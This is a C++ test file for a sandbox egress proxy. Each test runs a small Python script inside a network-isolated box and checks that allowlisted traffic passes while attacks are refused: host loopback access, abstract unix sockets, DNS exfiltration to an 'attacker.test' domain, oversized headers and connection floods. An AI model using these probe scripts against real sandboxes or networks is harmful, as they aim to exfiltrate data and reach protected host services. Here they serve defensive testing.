// The egress proxy with a real box: what an allowlisted box can reach through it, and the
// attack suite of issue 4 (host loopback, abstract unix socket, non-allowlisted host, DNS
// exfiltration, rebinding an allowed name to loopback, oversized heads, connection floods).
#include "host_services.hpp"
#include "proxied_box.hpp"

#include <sandbox/error.hpp>

#include <doctest/doctest.h>

#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <string>
#include <thread>

using namespace netproxy_test;
using sandbox::EventAction;
using sandbox::Severity;
using sandbox::linux_netproxy::EgressProxy;
using sandbox::linux_netproxy::ProxyConfig;

namespace {

// The listener is made with setns into the box's netns: root only.
bool skip_without_root() {
    if (::geteuid() == 0) return false;
    MESSAGE("skipped: creating a listener in the box's network namespace needs root");
    return true;
}

ProxyConfig allow_test_server(std::uint16_t port) {
    ProxyConfig c;
    c.allowed_hosts = {"allowed.test:" + std::to_string(port)};
    c.pinned_hosts = {{"allowed.test", {"127.0.0.1"}}};
    return c;
}

// Python that opens a tunnel through the proxy with http.client and prints what happened.
std::string tunnel_script(const std::string& host, std::uint16_t port) {
    return "import http.client\n"
           "c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=10)\n"
           "c.set_tunnel('" + host + "', " + std::to_string(port) + ")\n"
           "try:\n"
           "    c.request('GET', '/through-tunnel')\n"
           "    r = c.getresponse()\n"
           "    print('STATUS', r.status, r.read().decode())\n"
           "except OSError as e:\n"
           "    print('REFUSED', e)\n";
}

}  // namespace

TEST_CASE("plain HTTP to an allowlisted, pinned name goes through the proxy") {
    if (skip_without_root()) return;
    ProxiedBox box;
    HostHttpServer server(box.io(), "hello from the host");
    std::string url = "http://allowed.test:" + std::to_string(server.port()) + "/hello";
    auto run = box.run_python("import urllib.request\n"
                              "r = urllib.request.urlopen('" + url + "', timeout=10)\n"
                              "print(r.status, r.read().decode())\n",
                              allow_test_server(server.port()));
    INFO("stderr: " << run.err);
    CHECK(run.out == "200 hello from the host\n");
    REQUIRE(server.heads().size() == 1);
    CHECK(server.heads()[0].starts_with("GET /hello HTTP/1.1\r\n"));
    CHECK(server.heads()[0].find("Host: allowed.test:" + std::to_string(server.port())) != std::string::npos);
    CHECK(box.has_event("GET " + url + " allowed", EventAction::allowed));
}

TEST_CASE("CONNECT to an allowlisted name opens a tunnel") {
    if (skip_without_root()) return;
    ProxiedBox box;
    HostHttpServer server(box.io(), "tunnelled");
    auto run = box.run_python(tunnel_script("allowed.test", server.port()), allow_test_server(server.port()));
    INFO("stderr: " << run.err);
    CHECK(run.out == "STATUS 200 tunnelled\n");
    CHECK(server.connections() == 1);
    CHECK(box.has_event("CONNECT allowed.test:" + std::to_string(server.port()) + " allowed", EventAction::allowed));
}

TEST_CASE("attack: CONNECT to a host not in the allowlist gets 403 and a denied event") {
    if (skip_without_root()) return;
    ProxiedBox box;
    HostHttpServer server(box.io(), "unused");
    ProxyConfig config = allow_test_server(server.port());
    config.pinned_hosts["denied.test"] = {"127.0.0.1"};  // resolvable, still not allowed
    auto run = box.run_python(tunnel_script("denied.test", 443), config);
    CHECK(run.out.starts_with("REFUSED Tunnel connection failed: 403"));
    CHECK(server.connections() == 0);
    bool found = false;
    for (const auto& e : box.events()) {
        if (e.detail != "CONNECT denied.test:443 not in allowlist") continue;
        found = true;
        CHECK(e.kind == sandbox::EventKind::security);
        CHECK(e.type == sandbox::SecurityEventType::network);
        CHECK(e.severity == Severity::medium);
        CHECK(e.action == EventAction::denied);
    }
    CHECK(found);
}

TEST_CASE("attack: the host's loopback services, directly and through the proxy") {
    if (skip_without_root()) return;
    ProxiedBox box;
    HostHttpServer server(box.io(), "host secret");
    const std::string port = std::to_string(server.port());
    auto run = box.run_python(
        "import socket, http.client\n"
        "try:\n"
        "    socket.create_connection(('127.0.0.1', " + port + "), timeout=3)\n"
        "    print('direct: connected')\n"
        "except OSError as e:\n"
        "    print('direct:', type(e).__name__)\n"
        "try:\n"
        "    socket.create_connection(('192.0.2.1', 80), timeout=3)\n"
        "except OSError as e:\n"
        "    print('outside:', e.errno)\n"
        "for host in ('127.0.0.1', 'localhost'):\n"
        "    c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=10)\n"
        "    c.request('GET', 'http://%s:" + port + "/' % host)\n"
        "    print(host, c.getresponse().status)\n",
        allow_test_server(server.port()));
    INFO("stderr: " << run.err);
    // The box's 127.0.0.1 is its own loopback, nothing else has a route (ENETUNREACH); the
    // proxy refuses both spellings of the host's loopback, which are not in the allowlist.
    CHECK(run.out == "direct: ConnectionRefusedError\noutside: 101\n127.0.0.1 403\nlocalhost 403\n");
    CHECK(server.connections() == 0);
    CHECK(box.has_event("GET http://127.0.0.1:" + port + "/ not in allowlist", EventAction::denied));
}

TEST_CASE("attack: an allowlisted name that DNS resolves to loopback is refused unless pinned") {
    if (skip_without_root()) return;
    ProxiedBox box;
    HostHttpServer server(box.io(), "host secret");
    ProxyConfig config;
    config.allowed_hosts = {"localhost:" + std::to_string(server.port())};  // resolved by the host's resolver
    auto run = box.run_python("import http.client\n"
                              "c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=10)\n"
                              "c.request('GET', 'http://localhost:" + std::to_string(server.port()) + "/')\n"
                              "print(c.getresponse().status)\n",
                              config);
    INFO("stderr: " << run.err);
    CHECK(run.out == "403\n");
    CHECK(server.connections() == 0);
    CHECK(box.has_event("(loopback), which only a pinned address may name", EventAction::denied));
}

TEST_CASE("attack: an abstract unix socket of the host is out of reach") {
    if (skip_without_root()) return;
    ProxiedBox box;
    const std::string name = "rsb-test-" + std::to_string(::getpid());
    HostAbstractListener listener(box.io(), name);
    HostHttpServer server(box.io(), "unused");
    auto run = box.run_python("import socket\n"
                              "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
                              "try:\n"
                              "    s.connect('\\0" + name + "')\n"
                              "    print('connected')\n"
                              "except OSError as e:\n"
                              "    print(type(e).__name__)\n",
                              allow_test_server(server.port()));
    INFO("stderr: " << run.err);
    // Abstract names belong to the network namespace.
    CHECK(run.out == "ConnectionRefusedError\n");
    CHECK(listener.connections() == 0);
}

TEST_CASE("attack: DNS exfiltration finds no resolver and reaches no host UDP port") {
    if (skip_without_root()) return;
    ProxiedBox box;
    HostUdpListener dns(box.io());
    HostHttpServer server(box.io(), "unused");
    auto run = box.run_python(
        "import socket\n"
        "try:\n"
        "    socket.getaddrinfo('c2VjcmV0.exfil.attacker.test', 443)\n"
        "    print('resolved')\n"
        "except socket.gaierror as e:\n"
        "    print('gaierror')\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for i in range(5): u.sendto(b'c2VjcmV0', ('127.0.0.1', " + std::to_string(dns.port()) + "))\n"
        "print('sent')\n",
        allow_test_server(server.port()));
    INFO("stderr: " << run.err);
    CHECK(run.out == "gaierror\nsent\n");
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
    CHECK(dns.datagrams() == 0);  // the box's 127.0.0.1 is its own
}

TEST_CASE("a request head over the limit gets 431 and a denied event") {
    if (skip_without_root()) return;
    ProxiedBox box;
    HostHttpServer server(box.io(), "unused");
    auto run = box.run_python("import socket\n"
                              "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
                              "s.sendall(b'GET http://allowed.test/ HTTP/1.1\\r\\nX-Pad: ' + b'a' * 9000)\n"
                              "print(s.recv(100).split(b'\\r\\n')[0].decode())\n",
                              allow_test_server(server.port()));
    INFO("stderr: " << run.err);
    CHECK(run.out == "HTTP/1.1 431 Request Header Fields Too Large\n");
    CHECK(box.has_event("proxy request head longer than 8192 bytes", EventAction::denied));
}

TEST_CASE("connections beyond the limit get 503; a silent one is closed at the idle timeout") {
    if (skip_without_root()) return;
    ProxiedBox box;
    HostHttpServer server(box.io(), "unused");
    ProxyConfig config = allow_test_server(server.port());
    config.max_connections = 2;
    config.idle_timeout = std::chrono::milliseconds(300);
    auto run = box.run_python("import socket, time\n"
                              "a = socket.create_connection(('127.0.0.1', 3128))\n"
                              "b = socket.create_connection(('127.0.0.1', 3128))\n"
                              "time.sleep(0.1)\n"
                              "c = socket.create_connection(('127.0.0.1', 3128), timeout=5)\n"
                              "print(c.recv(100).split(b'\\r\\n')[0].decode())\n"
                              "t = time.monotonic()\n"
                              "a.settimeout(5)\n"
                              "print('idle closed' if a.recv(1) == b'' else 'data')\n"
                              "print('within 2 s' if time.monotonic() - t < 2 else 'late')\n",
                              config);
    INFO("stderr: " << run.err);
    CHECK(run.out == "HTTP/1.1 503 Service Unavailable\nidle closed\nwithin 2 s\n");
    CHECK(box.has_event("2 connections already open", EventAction::denied));
}

TEST_CASE("a proxy that cannot be started fails the launch and leaves no child") {
    if (skip_without_root()) return;
    ProxiedBox box;
    ProxyConfig config;
    config.allowed_hosts = {"a.test"};
    config.pinned_hosts = {{"a.test", {"not-an-address"}}};
    box_test::BoxPlan plan = box_test::plan_for({"/bin/true"});
    plan.before_release = [&](pid_t pid) { EgressProxy::start(box.io(), pid, config, nullptr); };
    CHECK_THROWS_WITH_AS(box_test::run_box(plan), doctest::Contains("'not-an-address' is not an IP address"),
                         sandbox::PolicyError);
    CHECK(box_test::count_children() == 0);
    CHECK_THROWS_WITH_AS(EgressProxy::start(box.io(), 999999999, {.allowed_hosts = {"a.test"}}, nullptr),
                         doctest::Contains("cannot open /proc/999999999/ns/net"), sandbox::SetupError);
}

TEST_CASE("proxied runs leave no fd behind") {
    if (skip_without_root()) return;
    int before = 0;
    {
        ProxiedBox box;
        HostHttpServer server(box.io(), "x");
        box.run_python("print(1)", allow_test_server(server.port()));  // warm-up: lazily opened fds
        before = box_test::count_open_fds();
        for (int i = 0; i < 3; ++i) {
            auto run = box.run_python(tunnel_script("allowed.test", server.port()), allow_test_server(server.port()));
            CHECK(run.out == "STATUS 200 x\n");
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
        CHECK(box_test::count_open_fds() <= before);
    }
}

TEST_CASE("attack: a flood of denied requests is reported up to the budget, then counted") {
    if (skip_without_root()) return;
    ProxiedBox box;
    HostHttpServer server(box.io(), "unused");
    ProxyConfig config = allow_test_server(server.port());
    config.max_reported_events = 3;
    auto run = box.run_python("import http.client\n"
                              "for i in range(6):\n"
                              "    c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=10)\n"
                              "    c.request('GET', 'http://evil%d.test/' % i)\n"
                              "    print(c.getresponse().status, end=' ')\n",
                              config);
    INFO("stderr: " << run.err);
    CHECK(run.out == "403 403 403 403 403 403 ");
    box.stop_proxy();
    auto events = box.events();
    REQUIRE(events.size() == 4);
    CHECK(events[2].detail == "GET http://evil2.test/ not in allowlist");
    CHECK(events[3].detail == "3 further denied proxy requests not reported (limit 3 events)");
    CHECK(events[3].action == EventAction::denied);
}
